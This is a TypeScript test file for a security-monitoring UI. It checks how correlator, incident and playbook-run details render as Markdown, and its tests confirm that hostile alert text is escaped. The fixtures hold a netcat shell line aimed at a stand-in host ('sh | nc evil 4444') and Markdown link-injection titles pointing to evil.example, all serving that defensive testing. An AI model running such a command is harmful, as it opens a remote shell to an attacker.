/**
 * The Markdown the Temporal UI shows as a correlator's, an incident's and a playbook run's current details, built from a real
 * EntityState as one workflow activation builds it (pure, no server; test/ui/console.test.ts reads it in a browser).
 */
import type { PlaybookStatus } from '../../src/contracts/playbook/messages';
import type { Detection } from '../../src/model/detection';
import { parseDuration } from '../../src/model/duration';
import { correlatorLink } from '../../src/contracts/correlator/ui-link';
import { correlatorWorkflowId } from '../../src/temporal/workflow-ids';
import { defaultCorrelatorSettings } from '../../workflows/correlator/correlator';
import { renderEntityCard, attackTags, MAX_ROWS } from '../../workflows/correlator/entity-card';
import { EntityState, emptyCarriedState } from '../../workflows/correlator/entity-state';
import { defaultIncidentSettings } from '../../src/contracts/incident/input';
import type { Alert } from '../../src/model/alert';
import type { IncidentRef } from '../../src/model/incident';
import { cardKey, renderIncidentCard } from '../../workflows/incident/incident-card';
import { freshIncident, IncidentState } from '../../workflows/incident/incident-state';
import { renderPlaybookDetails } from '../../workflows/playbook/playbook-details';
import { ruleRef } from './test-rules';

const host = { type: 'host' as const, id: 'web-01' };
const start = 1_790_000_000_000;
const linkTo = (id: string) => correlatorLink('http://ui:8233', 'default', id);

function newState(): EntityState {
  const s = defaultCorrelatorSettings;
  return new EntityState('acme', host, 'entity:acme:host:web-01', s, parseDuration(s.suppressFor), parseDuration(s.riskHalfLife), linkTo, emptyCarriedState(start));
}

function det(i: number, rule: 't_recon' | 't_exec', summary: string, user = 'mallory'): Detection {
  return {
    eventId: `ev-${i}`,
    tenant: 'acme',
    source: 'process',
    time: start + i * 1000,
    rules: [rule === 't_exec' ? { ...ruleRef(rule), title: 'Shell | spawned [click](http://evil.example)' } : ruleRef(rule)],
    entities: [host, { type: 'user', id: user }],
    fields: {},
    summary,
    rulesetVersion: 'v1',
  };
}

function card(state: EntityState, now: number): string {
  return renderEntityCard({
    asOf: now,
    view: state.view(now),
    started: state.startedPlaybooks(),
    related: state.relatedEntities(MAX_ROWS),
    linkTo,
    correlatorOf: (entity) => correlatorWorkflowId('acme', entity),
  });
}

test('the entity card shows risk, the open alert with level and ATT&CK tags, the newest timeline rows, playbooks and related entities', () => {
  const state = newState();
  const detections = Array.from({ length: 14 }, (_, i) => det(i, 't_recon', `recon ${i}`, i === 13 ? 'eve' : 'mallory'));
  detections.push(det(14, 't_exec', 'mallory ran sh | nc evil 4444'));
  const now = start + 20_000;
  const { alerts } = state.applyDetections(detections, now, 'high', new Set());
  expect(alerts).toHaveLength(1);
  state.recordStartedPlaybook({ workflowId: 'playbook:isolate-host:acme:host:web-01', playbook: 'isolate-host', alertId: alerts[0]!.id });
  const text = card(state, now);
  const lines = text.split('\n');

  expect(text).toContain(`**Risk ${state.riskScore(now)} of 100**`);
  // A hostile title is shown as text: its pipe and link syntax escaped, so it neither forges a link nor a table cell.
  const alertLine = lines.find((l) => l.includes(alerts[0]!.id))!;
  expect(alertLine.startsWith('- **high** Shell \\| spawned \\[click\\](http://evil.example) · ')).toBe(true);
  expect(alertLine).toContain('ATT&CK T1059, execution');
  expect(text).not.toMatch(/(?<!\\)\]\(http:\/\/evil/);
  // The last MAX_ROWS events, newest first, each a 4-cell row however many pipes its summary has.
  const rows = lines.filter((l) => l.startsWith('| 20'));
  expect(rows).toHaveLength(MAX_ROWS);
  expect(rows[0]).toContain('mallory ran sh \\| nc evil 4444');
  expect(rows[MAX_ROWS - 1]).toContain(`recon ${15 - MAX_ROWS}`);
  for (const row of rows) expect(row.split(/(?<!\\)\|/).length).toBe(6);
  expect(text).toContain(`- [isolate-host](${linkTo('playbook:isolate-host:acme:host:web-01')}) for \`${alerts[0]!.id}\` · started`);
  // Related entities, most recently seen first; the entity itself is not one.
  expect(lines).toContain(`**Related** [user mallory](${linkTo('entity:acme:user:mallory')}) · [user eve](${linkTo('entity:acme:user:eve')})`);
});

test('a card with nothing yet says so; ATT&CK tags keep techniques before tactics and drop groups and software', () => {
  const text = card(newState(), start);
  expect(text).toContain('**Risk 0 of 100**');
  expect(text).toContain('#### Open alerts\nNone.');
  expect(text).toContain('No events yet.');
  expect(text).not.toContain('#### Playbooks');
  expect(text).not.toContain('**Related**');
  expect(attackTags(['attack.privilege_escalation', 'attack.t1611', 'attack.g0007', 'attack.s0154', 'cve.2024'])).toBe('T1611, privilege escalation');
});

test("a playbook run's details say what it waits for, whom it asks and which alerts it covers", () => {
  const status: PlaybookStatus = {
    workflowId: 'playbook:quarantine-pod:acme:k8s.pod:shop/web',
    alertId: 'alrt-1',
    correlatorWorkflowId: 'entity:acme:pod:shop/web',
    playbook: 'quarantine-pod',
    state: 'awaiting_approval',
    alerts: [{ id: 'alrt-1', rule: { id: 'r', title: 'Exec into pod', level: 'high' }, entity: { type: 'pod', id: 'shop/web' }, correlatorWorkflowId: 'entity:acme:pod:shop/web', raisedAt: start, coveredAt: start }],
    askedGroups: ['secops-oncall'],
    approvalsNeeded: 1,
    decisions: [],
    refused: [],
    actions: ['webhook notice approval_request sent'],
    holds: [],
    waitUntil: start + 3_600_000,
  };
  const groups = [
    { name: 'secops-oncall', members: [{ name: 'alice', aliases: [] }, { name: 'bob', aliases: [] }] },
    { name: 'secops-leads', members: [{ name: 'carol', aliases: [] }] },
  ];
  const text = renderPlaybookDetails({ status, target: 'k8s.pod:shop/web', groups, linkTo });
  expect(text).toContain('### quarantine-pod on k8s.pod:shop/web');
  expect(text).toContain('**State awaiting approval** · waiting for approval for quarantine-pod on k8s.pod:shop/web from secops-oncall (1 needed) until 2026-09-21 15:13:20Z');
  expect(text).toContain('- secops-oncall (asked): alice, bob');
  expect(text).toContain('- secops-leads (on escalation): carol');
  expect(text).toContain(`\`alrt-1\` on [pod shop/web](${linkTo('entity:acme:pod:shop/web')})`);
  const decided = renderPlaybookDetails({ status: { ...status, state: 'containing', decisions: [{ decision: 'approve', by: 'alice', via: 'cli', at: start }] }, target: 'k8s.pod:shop/web', groups });
  expect(decided).toContain('**State containing**\n');
  expect(decided).toContain('- **approve** by alice via cli at 2026-09-21 14:13:20Z');
  expect(decided).toContain('`alrt-1` on pod shop/web');
});

const incidentRef: IncidentRef = { id: 'inc-7', workflowId: 'incident:acme:inc-7', link: linkTo('incident:acme:inc-7') };

/** The alert one high detection raises on web-01, routed to inc-7 as the correlator records it (on the state's own alert). */
function routedAlert(state: EntityState, i: number, rule: Detection['rules'][number], entities = [host, { type: 'user' as const, id: 'mallory' }]): Alert {
  const { alerts } = state.applyDetections([{ ...det(i, 't_exec', `event ${i}`), rules: [rule], entities }], start + i * 1000, 'high', new Set());
  expect(alerts).toHaveLength(1);
  alerts[0]!.incident = incidentRef;
  return alerts[0]!;
}

test("the entity card and a playbook run's details link each alert's incident", () => {
  const state = newState();
  const alert = routedAlert(state, 1, { ...ruleRef('t_exec'), title: 'Shell spawned' });
  const text = card(state, start + 5000);
  const link = `[inc-7](${incidentRef.link})`;
  expect(text.split('\n').find((l) => l.includes(alert.id))).toMatch(new RegExp(`^- \\*\\*high\\*\\* Shell spawned · .* · incident ${link.replace(/[[\]().*?/]/g, '\\$&')}$`));
  expect(text).toContain(`**Incident** ${link}`);
  // An entity whose alerts have no incident shows no incident line.
  expect(card(newState(), start)).not.toContain('**Incident');

  const covered = { id: alert.id, rule: alert.rule, entity: host, correlatorWorkflowId: 'entity:acme:host:web-01', raisedAt: start, coveredAt: start, incident: incidentRef };
  const status: PlaybookStatus = {
    workflowId: 'playbook:isolate-host:acme:host:web-01', alertId: alert.id, correlatorWorkflowId: covered.correlatorWorkflowId, playbook: 'isolate-host', state: 'awaiting_approval',
    alerts: [covered], askedGroups: ['secops-oncall'], approvalsNeeded: 1, decisions: [], refused: [], actions: [], holds: [],
  };
  expect(renderPlaybookDetails({ status, target: 'host:web-01', groups: [], linkTo })).toContain(`\`${alert.id}\` on [host web-01](${linkTo('entity:acme:host:web-01')}) · incident ${link}`);
});

test("an incident's card: status, severity, tactics in kill-chain order, alerts newest first, entities, playbooks, timeline; hostile text escaped", () => {
  const web = newState();
  const incident = new IncidentState('acme', 'inc-7', 'incident:acme:inc-7', defaultIncidentSettings, freshIncident(start));
  const render = (): string => renderIncidentCard({ view: incident.view(), linkTo, correlatorOf: (entity) => correlatorWorkflowId('acme', entity) });
  // Privilege escalation first, execution second: the card lists execution first all the same (kill-chain order).
  const first = routedAlert(web, 1, { ...ruleRef('t_priv'), level: 'high', title: 'Setuid | helper [x](http://evil.example)' });
  const second = routedAlert(web, 2, { ...ruleRef('t_exec'), title: 'Reverse shell' }, [host, { type: 'user', id: 'eve' }]);
  incident.enqueue([first]);
  incident.applyPending(start + 1000);
  const before = cardKey(incident.view());
  incident.enqueue([second]);
  incident.applyPending(start + 2000);
  incident.notePlaybook('playbook:isolate-host:acme:inc-7');
  expect(cardKey(incident.view())).not.toBe(before);
  const text = render();
  const lines = text.split('\n');

  expect(lines[0]).toBe('### Incident inc-7');
  expect(lines[1]).toBe(`**Severity ${incident.view().severity}** · open · 2 alerts · 3 entities · tenant acme · opened 2026-09-21 14:13:20Z`);
  expect(text).toContain('**Tactics** execution → privilege escalation');
  expect(text).toContain(`**Entities** [host web-01](${linkTo('entity:acme:host:web-01')}) · [user mallory](${linkTo('entity:acme:user:mallory')}) · [user eve](${linkTo('entity:acme:user:eve')})`);
  // Newest first, each on its entity's correlator; the hostile title neither forges a link nor a table cell.
  const alertLines = lines.filter((l) => l.startsWith('- **high**'));
  expect(alertLines.map((l) => /`(alrt-[^`]+)`/.exec(l)?.[1])).toEqual([second.id, first.id]);
  expect(alertLines[1]).toContain('Setuid \\| helper \\[x\\](http://evil.example)');
  expect(text).not.toMatch(/(?<!\\)\]\(http:\/\/evil/);
  expect(text).toContain('#### Latest alerts (2 of 2)');
  expect(text).toContain(`- [playbook:isolate-host:acme:inc-7](${linkTo('playbook:isolate-host:acme:inc-7')})`);
  const rows = lines.filter((l) => l.startsWith('| 20'));
  expect(rows).toHaveLength(2);
  expect(rows[0]).toContain('Reverse shell');
  for (const row of rows) expect(row.split(/(?<!\\)\|/).length).toBe(6);

  incident.resolve({ by: 'alice', verdict: 'true_positive' }, start + 9000);
  expect(render().split('\n')[1]).toContain(' · resolved (true positive) · ');
});

test('a merged incident points to the one that took it over; an empty one says so', () => {
  const incident = new IncidentState('acme', 'inc-3', 'incident:acme:inc-3', defaultIncidentSettings, freshIncident(start));
  incident.mergeInto(incidentRef, start + 1000);
  const text = renderIncidentCard({ view: incident.view(), linkTo, correlatorOf: (entity) => correlatorWorkflowId('acme', entity) });
  expect(text).toContain(`**Merged into** [inc-7](${linkTo('incident:acme:inc-7')})`);
  expect(text).toContain(' · merged · 0 alerts · 0 entities · ');
  expect(text).toContain('**Tactics** none tagged');
  expect(text).toContain('#### Latest alerts (0 of 0)\nNone yet.');
  expect(text).toContain('No events yet.');
  expect(text).not.toContain('#### Playbooks');
});
